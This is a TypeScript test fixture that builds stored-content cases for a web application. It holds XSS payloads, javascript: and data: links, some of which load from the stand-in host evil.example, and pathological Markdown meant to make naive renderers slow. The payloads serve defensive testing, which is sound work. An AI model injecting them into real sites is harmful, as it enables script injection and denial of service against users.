/**
 * C15 as stored text: Markdown and HTML that would run or never end where somebody renders it. It is kept byte for byte, found by
 * its words, and exported. How it is rendered has tests of its own.
 */
import { created, fixed, type HostileCase, post } from "./case.ts";

const XSS: readonly string[] = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x></sCrIpT>",
  "<img src=x onerror=alert(1)>",
  '<img """><script>alert(1)</script>">',
  "<svg onload=alert(1)>",
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>',
  "<svg><script>alert&#40;1)</script>",
  "<math><mtext><table><mglyph><style><!--</style><img title=--&gt;&lt;img src=1 onerror=alert(1)&gt;>",
  "<noscript><p title=</noscript><img src=x onerror=alert(1)>>",
  '<form><input name=attributes><input name="nodeName"></form>',
  "<base href=//evil.example/>",
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  "<iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;></iframe>",
  "<template><script>alert(1)</script></template>",
  "<select><template><img src=x onerror=alert(1)></template></select>",
  "<a href=javascript:alert(1)>x</a>",
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  "<body onpageshow=alert(1)>",
  "<details open ontoggle=alert(1)>",
  '<style>@import "//evil.example/x";</style>',
  "<object data=javascript:alert(1)>",
  "<embed src=data:text/html;base64,PHNjcmlwdD4=>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml-stylesheet href=javascript:alert(1)?>",
];

const LINKS: readonly string[] = [
  "[x](javascript:alert(1))",
  "[x](javascript&#58;alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:x)",
  "[x](//evil.example)",
  "[x](\\\\evil.example)",
  "![x](javascript:alert(1))",
  '[x](https://e.example "onclick=alert(1)")',
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
  "<https://e.example/\u0022onclick=alert(1)>",
];

/** What takes a naive renderer a time that grows faster than the text. */
const SLOW: readonly (readonly [name: string, text: string])[] = [
  ["50,000 brackets", "[".repeat(50_000)],
  ["50,000 closing brackets", "]".repeat(50_000)],
  ["25,000 stars", "*a ".repeat(25_000)],
  ["40,000 underscores", "_a__ ".repeat(19_000)],
  ["10,000 images in links", "![[]()".repeat(10_000)],
  ["20,000 nested bold", "<b>".repeat(20_000)],
  ["20,000 comments", "<!--".repeat(20_000)],
  ["20,000 quotes", "> ".repeat(20_000)],
  ["10,000 list items", "- a\n".repeat(10_000)],
  ["a staircase of lists", Array.from({ length: 300 }, (_, i) => `${"  ".repeat(i)}- a`).join("\n")],
  [
    "5,000 references",
    Array.from({ length: 5_000 }, (_, i) => `[${i}]: https://e.example/${i}`)
      .join("\n")
      .slice(0, 99_000),
  ],
  ["a table of 3,000 rows", `|a|b|\n|-|-|\n${"|1|2|\n".repeat(3_000)}`],
  ["50,000 back quotes", "`".repeat(50_000)],
  ["back quotes of every length", Array.from({ length: 400 }, (_, i) => "`".repeat(i)).join("a")],
  ["40,000 backslashes", "\\".repeat(40_000)],
  ["20,000 entities", "&amp;".repeat(19_000)],
  ["no line end", "x".repeat(99_000)],
  ["50,000 empty lines", "\n".repeat(50_000)],
];

/** A word that no other case has, so that a search finds this one alone. */
const word = (i: number) => `zqmarkup${String(i).padStart(3, "0")}`;

const FORMATS = ["markdown", "html", "text"] as const;

interface Stored {
  readonly name: string;
  readonly fields: (word: string) => Readonly<Record<string, unknown>>;
}

const described = (name: string, format: (typeof FORMATS)[number], text: string): Stored => ({
  name: `${name} in a description as ${format}`,
  // In front: what is behind 100 KB need not be searched.
  fields: (found) => ({ description: { format, value: `${found}\n\n${text}` } }),
});

const STORED: readonly Stored[] = [
  ...[...XSS, ...LINKS].flatMap((text): Stored[] => [
    ...FORMATS.slice(0, 2).map((format) => described(JSON.stringify(text), format, text)),
    { name: `${JSON.stringify(text)} in a summary`, fields: (found) => ({ summary: `${found} ${text}` }) },
  ]),
  ...[...XSS, ...LINKS]
    .filter((text) => !text.includes("\n"))
    .map((text) => ({
      name: `${JSON.stringify(text)} in a title`,
      fields: (found: string) => ({ title: `${found} ${text}` }),
    })),
  ...SLOW.flatMap(([name, text]) => FORMATS.map((format) => described(name, format, text))),
];

export const cases: readonly HostileCase[] = STORED.map(({ name, fields }, i) => {
  const members = fields(word(i));
  return fixed(name, post(members), created(members, word(i)));
});

export const isExported = true;
